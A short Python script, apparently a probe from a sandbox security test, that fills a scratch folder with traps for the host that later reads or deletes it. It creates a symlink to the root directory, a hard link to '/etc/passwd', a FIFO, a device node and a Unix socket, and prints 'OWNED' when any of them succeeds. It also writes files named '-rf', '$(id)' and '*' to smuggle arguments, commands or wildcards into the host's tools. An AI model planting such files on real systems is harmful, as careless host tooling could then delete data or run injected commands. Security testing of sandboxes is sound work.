# write: names in the scratch folder that hurt a host which reads or removes it: subfolders, links, pipes, sockets, devices, a long path
import os,socket
for way in (lambda: os.mkdir('d'), lambda: os.makedirs('a/b'), lambda: os.symlink('/','s'), lambda: os.link('/etc/passwd','l'), lambda: os.mkfifo('p'), lambda: os.mknod('c',0o020666,0x103), lambda: socket.socket(socket.AF_UNIX).bind('k')):
    try: way(); print('OWNED:write_special_names')
    except (OSError,AttributeError): pass
for name in (b'-rf', b'\n', b'\xff\xfe', b'a'*255, b'*', b'$(id)'):
    try: os.close(os.open(name,os.O_WRONLY|os.O_CREAT,0))
    except OSError: pass
